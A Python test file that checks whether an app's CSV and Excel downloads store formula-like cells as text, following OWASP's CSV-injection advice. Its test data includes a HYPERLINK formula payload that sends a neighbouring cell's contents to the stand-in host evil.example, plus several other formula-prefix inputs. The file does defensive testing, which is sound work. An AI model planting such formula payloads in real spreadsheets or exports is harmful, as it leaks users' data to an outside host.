"""Downloads open as data: a list cell that looks like a formula stays text in Excel and in CSV (OWASP)."""

from __future__ import annotations

import csv

import pandas as pd
from openpyxl import load_workbook

from assistant.overview import MatrixTable, write_matrix_xlsx
from ui.chat import COLUMNS, Downloads

ATTACK = '=HYPERLINK("http://evil.example/?leak="&C2,"点击")'
CELLS = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "市教育局"]


def test_citation_downloads_write_formula_like_cells_as_text() -> None:
    table = pd.DataFrame([[c, 1, "市教育局", "", "任务"] for c in CELLS], columns=COLUMNS)
    downloads = Downloads()  # its folder lives as long as it does
    csv_path, xlsx_path = downloads.write(table)
    sheet = load_workbook(xlsx_path).active
    values = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(CELLS))]
    assert [c.value for c in values] == CELLS and all(c.data_type == "s" for c in values)
    assert sheet.cell(row=2, column=2).value == 1  # numbers stay numbers
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        first = [row[0] for row in csv.reader(handle)][1:]
    assert first == ["'" + c for c in CELLS[:5]] + ["市教育局"]


def test_matrix_downloads_write_formula_like_cells_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    table = MatrixTable(title="部门矩阵", header=["部门", "营口市"], rows=[[ATTACK, "1 / 2"]], widths=[20, 10],
                        tips=[""])
    sheet = load_workbook(write_matrix_xlsx(table, tmp_path / "m.xlsx")).active
    assert sheet["A3"].value == ATTACK and sheet["A3"].data_type == "s"
